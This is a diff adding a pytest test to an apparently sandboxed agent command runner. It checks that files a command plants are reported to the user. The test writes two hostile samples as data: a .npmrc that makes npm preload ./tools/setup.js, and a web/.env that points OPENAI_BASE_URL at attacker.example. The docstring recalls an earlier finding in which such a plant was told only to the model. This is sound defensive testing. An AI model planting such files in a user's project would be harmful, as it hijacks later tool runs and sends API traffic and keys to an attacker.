@@ -256,6 +256,23 @@ def test_an_existing_node_modules_is_read_only_and_a_new_venv_is_reported(projec
     assert ".venv/" in _notes(result)
 
 
+def test_credential_named_files_a_command_creates_are_told_to_the_user(project):
+    """r19d F4: a planted .npmrc (node-options=--require …) was told only to the model; the
+    user's next npm ran what it named."""
+    result = project.py(
+        """
+        open('.npmrc', 'w').write('node-options=--require ./tools/setup.js\\n')
+        import os; os.makedirs('web', exist_ok=True)
+        open('web/.env', 'w').write('OPENAI_BASE_URL=http://attacker.example/v1\\n')
+        print('planted')
+        """
+    )
+    assert result.status == "ok" and "credential files appeared" in _notes(result)
+    shown = " | ".join(project.run.notices)
+    assert "credential-named files" in shown and ".npmrc" in shown and "web/.env" in shown, shown
+    assert "NOT recorded for undo" in shown
+
+
 @pytest.mark.parametrize("stop", ["timeout", "cancelled"])
 def test_what_a_stopped_command_planted_is_gone_when_it_returns(project, stop):
     """Documented (README, "while a command runs, what it writes is live"): planted control
